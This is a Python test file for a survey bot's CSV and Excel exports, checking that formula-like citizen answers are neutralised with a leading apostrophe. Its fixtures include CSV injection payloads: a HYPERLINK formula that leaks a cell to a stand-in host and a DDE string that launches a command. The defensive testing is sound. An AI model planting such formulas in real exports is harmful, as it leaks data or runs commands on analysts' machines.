"""CSV formula injection (issue 18, finding 5): a citizen's answer that a spreadsheet would run
as a formula comes out of every CSV export with a ``'`` in front (survey CSV from the dashboard
and the command line, the codebook, ``contacts export``, ``broadcast replies``), exactly as typed
with ``--raw``; plain numbers stay numbers and Excel files keep typed text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from bot.cli.broadcast import replies
from bot.config import Settings
from common.csv_cells import neutralised
from storage.codebook import write_codebook
from storage.contacts_export import export_contacts_csv
from storage.database import Database
from storage.exports import ExportOptions
from storage.exports.files import export_responses
from storage.feedback import BROADCAST_REPLY, FeedbackRepository
from storage.pseudonyms import Pseudonymizer
from storage.repositories import Repositories
from surveys.loader import load_survey_file
from surveys.model import Survey

NOW = datetime(2026, 5, 4, 10, 0, tzinfo=UTC)
PSEUDONYM = Pseudonymizer("formula-test-key-0123456789")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
#: What a citizen typed → what the CSV holds.
CELLS = {
    HYPERLINK: "'" + HYPERLINK,
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-12.5": "-12.5",
    "+3": "+3",
    "-1e3": "-1e3",
    "fine = good": "fine = good",
    "": "",
}
SURVEY = """
id: formula
title: {en: Formula test}
default_language: en
languages: [en]
questions:
  - {type: text, name: comment, label: {en: "=1+1 Your comment"}, required: false}
  - {type: decimal, name: change, label: {en: Change}, required: false}
"""


@pytest.fixture
def survey(tmp_path: Path) -> Survey:
    path = tmp_path / "formula.yaml"
    path.write_text(SURVEY, encoding="utf-8")
    return load_survey_file(path)


async def seed(database: Database, survey: Survey) -> None:
    async with database.transaction() as connection:
        repos = Repositories(connection)
        for number, typed in enumerate(CELLS):
            contact = await repos.contacts.touch("telegram", str(number), str(number), "en", NOW)
            await repos.contacts.give_consent(contact.id, NOW)
            await repos.contacts.set_field(contact.id, "organisation", typed or None)
            response_id = await repos.responses.create(
                survey_id=survey.id, survey_version=survey.version, contact=contact,
                respondent=PSEUDONYM("telegram", str(number)), language="en", now=NOW, channel="telegram",
            )  # fmt: skip
            await repos.responses.record_answer(response_id, "comment", typed, NOW)
            await repos.responses.record_answer(response_id, "change", "-0.25", NOW)
            await repos.responses.complete(response_id, NOW)
            await FeedbackRepository(connection).add(
                contact_id=contact.id, channel="telegram", kind=BROADCAST_REPLY, text=typed or "ok", now=NOW
            )


def test_the_cells_owasp_names_are_neutralised() -> None:
    for typed, written in CELLS.items():
        assert neutralised(typed) == written, typed
    assert neutralised(12) == 12 and neutralised(None) is None


async def survey_csv(database: Database, survey: Survey, **options: bool) -> list[dict[str, str]]:
    out = io.StringIO()
    await export_responses(database, survey, ExportOptions(include_anonymous=True, **options), "csv", out)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


async def test_survey_csv_neutralises_formulas_and_raw_keeps_them(database: Database, survey: Survey) -> None:
    await seed(database, survey)
    rows = await survey_csv(database, survey)
    assert sorted(row["comment"] for row in rows) == sorted(CELLS.values())
    assert {row["change"] for row in rows} == {"-0.25"}, "numbers stay numbers"
    raw = await survey_csv(database, survey, raw=True)
    assert sorted(row["comment"] for row in raw) == sorted(CELLS)


async def test_excel_keeps_the_typed_text_as_text(database: Database, survey: Survey, tmp_path: Path) -> None:
    await seed(database, survey)
    path = tmp_path / "out.xlsx"
    await export_responses(database, survey, ExportOptions(), "xlsx", path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    comments = [row[header.index("comment")] for row in sheet.iter_rows(min_row=2)]
    typed = {cell.value: cell.data_type for cell in comments}
    assert typed[HYPERLINK] == "s", "a string cell, not a formula"


async def test_contacts_export_neutralises_formulas(database: Database, survey: Survey) -> None:
    await seed(database, survey)
    out = io.StringIO()
    await export_contacts_csv(database, PSEUDONYM, out)
    organisations = sorted(row["organisation"] for row in csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert organisations == sorted(CELLS.values())
    raw = io.StringIO()
    await export_contacts_csv(database, PSEUDONYM, raw, raw=True)
    assert sorted(row["organisation"] for row in csv.DictReader(io.StringIO(raw.getvalue(), newline=""))) == sorted(
        CELLS
    )


async def test_broadcast_replies_neutralise_formulas(
    database: Database, database_url: str, survey: Survey, tmp_path: Path
) -> None:
    await seed(database, survey)
    settings = Settings(database_url=database_url, pseudonym_key="formula-test-key-0123456789")
    for raw in (False, True):
        path = tmp_path / f"replies-{raw}.csv"
        assert await replies(settings, None, path, raw=raw) == 0
        with path.open(encoding="utf-8", newline="") as file:
            texts = sorted(row["text"] for row in csv.DictReader(file))
        expected = {typed or "ok": (typed if raw else written) or "ok" for typed, written in CELLS.items()}
        assert texts == sorted(expected.values()), raw


async def test_the_codebook_csv_neutralises_labels(database: Database, survey: Survey, tmp_path: Path) -> None:
    await seed(database, survey)
    path = tmp_path / "codebook.csv"
    await write_codebook(database, survey, ExportOptions(), path, as_csv=True)
    with path.open(encoding="utf-8", newline="") as file:
        labels = {row["variable"]: row["label_en"] for row in csv.DictReader(file)}
    assert labels["comment"] == "'=1+1 Your comment"
